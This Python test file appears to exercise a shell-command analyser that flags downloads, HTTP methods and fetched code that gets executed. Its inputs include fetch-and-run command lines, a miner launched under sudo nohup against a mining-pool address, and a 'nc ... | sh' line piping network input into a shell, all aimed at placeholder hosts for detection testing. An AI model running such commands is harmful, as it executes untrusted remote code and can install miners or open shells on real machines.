"""Downloads: where answers go, and what becomes of them when they are run."""

from __future__ import annotations

import pytest

from tests.read.launch.stage import Play

URL = "https://dl.example/p/x"


@pytest.mark.parametrize(
    ("fetch", "path"),
    [
        (f"curl -o /tmp/x {URL}", "/tmp/x"),
        (f"curl -fsSLo /tmp/x {URL}", "/tmp/x"),
        (f"curl {URL} --output /tmp/x", "/tmp/x"),
        (f"curl -O {URL}", "./x"),
        (f"curl -sSLO {URL}", "./x"),
        (f"curl --output-dir /tmp -O {URL}", "/tmp/x"),
        (f"wget {URL}", "./x"),
        (f"wget -q -O /tmp/x {URL}", "/tmp/x"),
        (f"wget -qO/tmp/x {URL}", "/tmp/x"),
        (f"wget -P /tmp {URL}", "/tmp/x"),
        (f"aria2c -d /tmp -o x {URL}", "/tmp/x"),
        (f"curl -s {URL} | tee /tmp/x", "/tmp/x"),
        (f"curl -s {URL} | dd of=/tmp/x", "/tmp/x"),
    ],
)
@pytest.mark.parametrize(
    ("run", "interpreter"), [("{}", "exec"), ("bash {}", "bash"), ("sudo nohup {}", "exec"), ("python3 {}", "python")]
)
def test_a_fetched_file_that_is_run(play: Play, fetch: str, path: str, run: str, interpreter: str) -> None:
    """Fetched, made executable, run: one effect with the address, and the command with its arguments."""
    told = play(f"{fetch}\nchmod +x {path}\n{run.format(path)} -o pool.example:3333")
    assert f"http.request GET {URL}" in told
    assert f"code.fetch {URL} {interpreter}" in told
    assert any(line.endswith(f"{path} -o pool.example:3333") for line in told.lines)


@pytest.mark.parametrize(
    "lines",
    [
        f"curl -L {URL}miner-1.0-linux.tgz | tar xz\n./xminer-1.0/m",
        f"wget {URL}kit_tool.tar.gz\ntar -xzf xkit_tool.tar.gz\n./xkit_tool --go",
        f"wget -O /tmp/a.zip {URL}.zip\nunzip -q /tmp/a.zip -d /tmp/o\n/tmp/o/m",
        f"curl -sLo a.tgz {URL}.tgz\ntar --extract --file a.tgz --directory /opt/t\n/opt/t/bin/m",
        f"wget -q {URL}.gz\ngunzip x.gz\n./x",
    ],
)
def test_what_is_unpacked_from_a_fetched_archive_was_fetched(play: Play, lines: str) -> None:
    """Names inside an archive are not known; what runs from its directory is fetched code."""
    (line,) = play(lines).starting("code.fetch")
    assert line.startswith(f"code.fetch {URL}") and line.endswith(" exec")


def test_methods_of_requests(play: Play) -> None:
    """Data makes a POST, -I a HEAD, -X says itself; a URL without a scheme gets one."""
    assert "http.request POST https://a.example/v" in play("curl -d @f https://a.example/v")
    assert "http.request HEAD https://a.example" in play("curl -sI https://a.example")
    assert "http.request DELETE https://a.example" in play("curl -XDELETE https://a.example")
    assert "http.request PUT https://a.example" in play("curl -T f https://a.example")
    assert "http.request POST http://a.example" in play("wget --post-data=x a.example")
    assert "http.request POST http://a.example/v" in play("http a.example/v name=x")


def test_a_download_that_is_not_run_is_no_code(play: Play) -> None:
    """Fetching data, and running what the project has, is neither fetched nor opaque."""
    told = play(f"curl -o data.csv {URL}\npython3 train.py data.csv\ngrep x data.csv\ntar czf out.tgz data.csv")
    assert not told.starting("code.fetch")
    assert not told.starting("code.load")
    assert not told.gaps


def test_netcat_into_a_shell_is_fetched_code(play: Play) -> None:
    """`nc HOST PORT | sh` runs what comes from there."""
    assert "code.fetch tcp://203.0.113.7:9001 bash" in play("nc 203.0.113.7 9001 | sh")


def test_an_archive_unpacked_here_does_not_taint_everything(play: Play) -> None:
    """A data set unpacked in place does not make the project's own programs fetched; chmod +x of one does."""
    told = play(f"wget {URL}/caltech.zip\nunzip caltech.zip\n./configure\nbuild/main\n./autogen.sh")
    assert not told.starting("code.fetch")
    told = play(f"wget {URL}/rel.tgz\ntar xf rel.tgz\nchmod +x runner\n./runner")
    assert told.starting("code.fetch") == (f"code.fetch {URL}/rel.tgz exec",)
